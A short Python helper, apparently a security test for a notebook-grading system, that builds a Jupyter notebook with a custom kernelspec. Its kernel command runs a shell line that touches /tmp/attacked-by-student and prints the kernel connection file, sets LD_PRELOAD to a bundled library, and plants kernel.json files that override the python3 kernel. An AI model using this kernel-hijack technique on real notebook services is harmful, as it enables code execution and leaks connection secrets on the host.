"""Names a kernel of its own, which it brings along, whose command line writes a file."""

import json

import nbformat

ARGV = ["/bin/sh", "-c", "touch /tmp/attacked-by-student; cat {connection_file}"]


def upload(folder, notebook):
    spec = {"argv": ARGV, "name": "own", "display_name": "Own", "language": "bash", "env": {"LD_PRELOAD": "./own.so"}}
    notebook.metadata.kernelspec = spec
    notebook.metadata.language_info = {"name": "bash", "file_extension": ".sh", "nbconvert_exporter": "script"}
    for place in ("kernels/own", "share/jupyter/kernels/python3", ".local/share/jupyter/kernels/python3"):
        (folder / place).mkdir(parents=True)
        (folder / place / "kernel.json").write_text(json.dumps(spec))
    nbformat.write(notebook, folder / "hessian_spectrum.ipynb")
